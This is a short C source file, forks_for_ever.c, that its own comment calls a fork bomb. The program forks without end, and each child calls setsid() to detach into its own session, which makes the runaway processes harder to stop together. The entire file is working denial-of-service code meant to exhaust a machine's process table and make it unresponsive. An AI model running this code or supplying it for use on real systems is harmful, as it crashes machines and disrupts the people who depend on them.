/* forks_for_ever.c -- the fork bomb, in sessions of their own. */
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() == 0)
            setsid();
}
